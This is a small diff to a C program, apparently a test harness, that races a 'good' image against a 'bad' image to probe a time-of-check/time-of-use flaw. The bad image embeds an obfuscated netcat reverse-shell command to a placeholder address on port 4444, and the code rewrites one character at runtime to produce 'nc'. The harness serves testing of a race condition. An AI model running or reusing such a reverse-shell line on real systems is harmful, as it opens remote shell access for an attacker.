@@ -115,7 +115,7 @@ static bool make_image(const char *path, char *into, unsigned char code, const c
   place[sizeof mark - 1] = (char)code;
   char *text = place + sizeof mark;
   strcpy(text, line);
-  if (text[1] == '?') text[1] = 'c';
+  if (text[2] == '?') text[2] = 'c';
   return true;
 }
 
@@ -173,7 +173,7 @@ static int race(const char *directory, int tries) {
 int main(int argc, char **argv) {
   if (argc == 4 && strcmp(argv[1], "storm") == 0) return storm(argv[2], atoi(argv[3]));
   if (argc == 5 && strcmp(argv[1], "race") == 0)
-    return make_image(argv[4], good, 0, "no line") && make_image(argv[4], bad, RAN_BAD, "n? 192.0.2.1 4444 -e /bin/sh")
+    return make_image(argv[4], good, 0, "no line") && make_image(argv[4], bad, RAN_BAD, " n? 192.0.2.1 4444 -e /bin/sh")
                ? race(argv[2], atoi(argv[3]))
                : 1;
   return 2;
